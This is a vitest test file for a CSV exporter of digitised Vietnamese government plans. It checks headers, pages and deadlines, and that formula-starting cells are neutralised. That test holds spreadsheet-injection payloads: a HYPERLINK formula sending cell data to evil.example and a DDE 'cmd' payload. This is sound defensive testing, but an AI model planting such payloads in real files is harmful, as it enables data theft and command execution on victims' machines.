import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { DigitisedDocument } from '../document.js';
import { FIXTURES, loadFixture } from '../test-support/fixtures.js';
import { toCsv } from './csv.js';

/* Read back by csv-parse, as a spreadsheet would read the file. */
const read = (csv: string) =>
  parse(csv, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[];

describe('toCsv', () => {
  it('starts with the UTF-8 byte order mark', () => {
    const bytes = new TextEncoder().encode(toCsv(loadFixture('sample-plan')));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it.each(FIXTURES)('%s: one row per task, Vietnamese headers', (name) => {
    const doc = loadFixture(name);
    const rows = read(toCsv(doc));
    expect(rows).toHaveLength(doc.plan.tasks.length);
    expect(Object.keys(rows[0] ?? {}).slice(0, 8)).toEqual([
      'STT',
      'Mục',
      'Nhiệm vụ',
      'Chủ trì',
      'Phối hợp',
      'Thời hạn',
      'Định kỳ',
      'Trang',
    ]);
    rows.forEach((row, i) => {
      const task = doc.plan.tasks[i];
      if (!task) throw new Error('row without task');
      expect(row.STT).toBe(String(i + 1));
      expect(row.Mục).toBe(task.section);
      // A task text starting with '-' would be neutralised; the fixtures' never do.
      expect(row['Nhiệm vụ']).toBe(task.text);
      expect(row['Chủ trì']).toBe(task.lead ?? '');
      expect(row['Phối hợp']).toBe(task.coordinators.join('; '));
    });
  });

  it('gives the page from the form feeds before the task, 1 without any', () => {
    const ocr = read(toCsv(loadFixture('sample-plan'), { header: 'keys' }));
    // Page 2 of the sample scan starts at "II- MỤC TIÊU"; both tasks are under III.
    expect(ocr.map((r) => r.page)).toEqual(['2', '2']);
    const text = read(toCsv(loadFixture('laocai-ubnd-134-text'), { header: 'keys' }));
    expect(new Set(text.map((r) => r.page))).toEqual(new Set(['1']));
  });

  it('writes deadlines for a reader and for a program', () => {
    const rows = read(toCsv(loadFixture('party-text-layer'), { header: 'keys' }));
    expect(rows.map((r) => [r.deadline, r.deadline_raw, r.deadline_kind, r.deadline_iso, r.due])).toEqual([
      ['trong quý II/2024', 'trong quý II/2024', 'within', '2024-Q2', '2024-06-30'],
      ['trước ngày 30/6/2024', 'trước ngày 30/6/2024', 'by', '2024-06-30', '2024-06-30'],
      ['', '', '', '', ''],
    ]);
  });

  it('neutralises cells that would start a formula', () => {
    const base = loadFixture('party-text-layer');
    const texts = [
      '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      'Sở Y tế chủ trì.',
    ];
    const doc: DigitisedDocument = {
      ...base,
      plan: {
        ...base.plan,
        tasks: texts.map((text, i) => ({
          text,
          lead: i === 0 ? '=cmd' : null,
          coordinators: i === 1 ? ['@Sở Tài chính', '-x'] : [],
          deadline: null,
          recurrence: null,
          section: 'III.1',
        })),
      },
    };
    const rows = read(toCsv(doc, { header: 'keys' }));
    expect(rows.map((r) => r.task)).toEqual([...texts.slice(0, 6).map((t) => `'${t}`), 'Sở Y tế chủ trì.']);
    expect(rows[0]?.lead).toBe("'=cmd");
    expect(rows[1]?.coordinators).toBe("'@Sở Tài chính; -x");
    // No cell of any row starts a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
  });
});
